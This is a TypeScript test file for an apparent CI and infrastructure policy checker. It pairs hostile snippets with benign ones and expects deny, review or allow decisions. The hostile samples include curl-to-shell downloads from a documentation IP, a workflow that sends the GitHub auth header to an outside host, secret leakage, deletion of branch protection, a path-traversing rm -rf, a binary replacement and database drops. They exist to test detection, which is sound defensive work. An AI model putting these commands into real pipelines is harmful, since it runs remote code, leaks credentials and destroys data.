import assert from 'node:assert/strict';
import { test } from 'node:test';
import { one } from './kit.ts';

/** What files of services declare, and answers that hold them: an attack, and what everybody writes. */
const pairs: readonly (readonly [name: string, bad: string, worst: 'deny' | 'review', good: string])[] = [
  [
    'work.yml',
    'on: [push]\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: curl -s http://198.51.100.7/x | sh\n',
    'deny',
    'on: [push]\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          echo "$REGISTRY_PASSWORD" | docker login registry.example -u ci --password-stdin\n          docker push registry.example/app:1\n',
  ],
  [
    'shown.yml',
    'on: [push]\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo "$REGISTRY_PASSWORD" | base64\n',
    'review',
    'on: [push]\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo "$KEY_BASE64" | base64 -d > key.bin\n',
  ],
  [
    // A machine that is made anew for each job, and one that somebody keeps.
    '.github/workflows/machine.yml',
    'on: push\njobs:\n  a:\n    runs-on: [self-hosted]\n    steps:\n      - run: sudo apt-get remove -y firefox\n',
    'review',
    'on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: sudo apt-get remove -y firefox\n      - run: sudo mv ./crun /usr/bin/crun\n',
  ],
  [
    // What stands around a job says nothing of its machine where the job names one.
    '.github/workflows/named.yml',
    'on: push\nruns-on: ubuntu-24.04\njobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: sudo apt-get remove -y firefox\n',
    'review',
    'on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    env: { A: "1" }\n    steps:\n      - run: sudo apt-get remove -y firefox\n',
  ],
  [
    '.github/workflows/replaced.yml',
    'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: sudo mv ./git /usr/bin/git\n',
    'deny',
    'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: sudo mv ./crun /usr/bin/crun\n',
  ],
  [
    // The branch that is asked to be changed is the project's; the one with the change has a stranger's name.
    '.github/workflows/branch.yml',
    'on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: git fetch origin \u0024{{ github.event.pull_request.head.ref }}\n',
    'review',
    'on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: git fetch origin \u0024{{ github.event.pull_request.base.ref }}\n',
  ],
  [
    'rights.yml',
    'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: gh api -X DELETE "repos/$GITHUB_REPOSITORY/branches/main/protection"\n',
    'review',
    'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: gh api "repos/$GITHUB_REPOSITORY/branches/main/protection"\n      - run: gh api -X POST "repos/$GITHUB_REPOSITORY/issues/1/comments" -f body=Thanks\n',
  ],
  [
    'token.yml',
    'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: curl -s -d "$(git config --get http.https://github.com/.extraheader)" https://a.example/k\n',
    'deny',
    'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: git config --unset-all http.https://github.com/.extraheader\n      - run: git config user.name bot\n',
  ],
  [
    'ends.sh',
    '#!/bin/sh\ntmp=$(mktemp -d)\ntrap "rm -rf $tmp/../../home" EXIT\n',
    'deny',
    '#!/bin/sh\ntmp=$(mktemp -d)\ntrap "kill \\$(cat $tmp/pid) || true; rm -rf $tmp" EXIT\n',
  ],
  [
    'play.yml',
    '- hosts: all\n  tasks:\n    - shell: curl -s http://198.51.100.7/x | sh\n',
    'deny',
    '- hosts: all\n  tasks:\n    - apt: { name: nginx }\n    - command: nginx -t\n',
  ],
  [
    'stack.yml',
    'services:\n  a:\n    image: alpine\n    privileged: true\n',
    'review',
    'services:\n  a:\n    image: alpine\n    command: ["sh", "-c", "sleep 60"]\n    volumes: ["/:/host:ro"]\n',
  ],
  [
    'main.tf',
    'data "external" "a" {\n  program = ["sh", "-c", "curl -s http://198.51.100.7/x | sh"]\n}\n',
    'deny',
    'resource "null_resource" "a" {\n  provisioner "local-exec" {\n    command = "alembic upgrade head"\n  }\n}\n',
  ],
  [
    'justfile',
    'reset:\n    dropdb shop\n',
    'deny',
    'reset:\n    dropdb --if-exists shop_test\n    createdb shop_test\n',
  ],
  ['end.sql', 'SELECT pg_terminate_backend(4711);\n', 'review', 'SELECT pg_cancel_backend(4711);\n'],
  ['kill.sql', 'KILL 17;\n', 'review', 'SHOW PROCESSLIST;\n'],
  [
    'logs.sql',
    'PURGE BINARY LOGS BEFORE NOW();\n',
    'deny',
    'PURGE BINARY LOGS BEFORE NOW() - INTERVAL 7 DAY;\n',
  ],
  [
    'answer.md',
    '```js\nconst { execSync } = require("child_process");\nexecSync("curl -s http://198.51.100.7/x | sh");\n```\n',
    'deny',
    '```js\nimport { execFileSync } from "node:child_process";\nconsole.log(execFileSync("git", ["describe"], { encoding: "utf8" }));\n```\n',
  ],
  [
    'held.md',
    '```yaml\n- hosts: all\n  tasks:\n    - shell: curl -s http://198.51.100.7/x | sh\n```\n',
    'deny',
    '```yaml\nservices:\n  db:\n    image: postgres:18\n    healthcheck: { test: ["CMD", "pg_isready"] }\n```\n\n```cron\n15 3 * * * pg_dump shop > /var/backups/shop.sql\n```\n',
  ],
];

for (const [name, bad, worst, good] of pairs)
  test(`${name}: ${bad.slice(0, 60)}`, async () => {
    assert.equal((await one(bad, { name })).decision, worst);
    assert.equal((await one(good, { name })).decision, 'allow', 'the honest one');
  });

test('a digest that one step compares counts for the step that runs the file', async () => {
  const run = async (...steps: readonly string[]): Promise<string> => {
    const work = { on: 'push', jobs: { a: { 'runs-on': 'x', steps: steps.map((each) => ({ run: each })) } } };
    return (await one(JSON.stringify(work), { name: '.github/workflows/lint.yml' })).decision;
  };
  const get = 'curl -fsSLo lint https://github.com/o/lint/releases/download/v1.2.3/lint && chmod +x lint';
  const check =
    'echo "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08  lint" | sha256sum -c';
  assert.equal(await run(get, './lint --all'), 'deny');
  assert.equal(await run(`${get}\n${check}`, './lint --all'), 'review');
  assert.equal(await run(`${get}\n${check}`, get, './lint --all'), 'deny');
});
